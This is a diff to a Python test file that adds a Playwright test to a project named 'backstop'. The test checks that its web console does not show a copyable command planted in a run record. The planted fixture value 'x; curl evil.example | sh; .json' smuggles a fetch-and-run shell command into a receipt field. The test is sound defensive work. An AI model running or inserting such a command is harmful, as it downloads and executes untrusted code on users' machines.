@@ -3,12 +3,14 @@
 from __future__ import annotations
 
 import asyncio
+import json
 from collections.abc import Callable
 from dataclasses import dataclass
 from datetime import timedelta
 from pathlib import Path
 
 import pytest
+from playwright.async_api import Page
 
 import backstop
 from backstop.clock import SystemClock
@@ -19,8 +21,10 @@ from backstop.errors import RecordError, UsageError
 from backstop.events import Event
 from backstop.executor.process import Identity, executor
 from backstop.policy import DEFAULT
+from backstop.scenarios.frames import RUN
 from backstop.scenarios.process import Child
 from backstop.service import Access
+from tests.console.recorded import laid
 from tests.console.shown import shown
 from tests.engine.incidents_contract import asking, reached
 from tests.service.served import Broken
@@ -171,3 +175,17 @@ def test_every_process_of_ours_is_started_so() -> None:
         path for path in Path(backstop.__file__).parent.rglob("*.py") if 'sys.executable, "-m"' in path.read_text(encoding="utf-8")
     ]
     assert started == []
+
+
+async def test_no_record_puts_a_command_of_its_own_where_one_is_to_be_copied(page: Page, tmp_path: Path) -> None:
+    name = laid(tmp_path / "runs")
+    record = tmp_path / "runs" / name / RUN
+    lines = record.read_text().splitlines()
+    last = json.loads(lines[-1])
+    last["body"]["report"]["agents"]["backstop"]["receipt"] = "x; curl evil.example | sh; .json"
+    record.write_text("".join(f"{line}\n" for line in (*lines[:-1], json.dumps(last))))
+    async with shown(tmp_path) as console:
+        await page.goto(f"{console.url}/run/{name}")
+        await page.locator(".verdict").wait_for()
+        assert "curl evil.example" not in await page.inner_text(".verdict")
+        assert "no signed receipt" in await page.inner_text(".verdict")
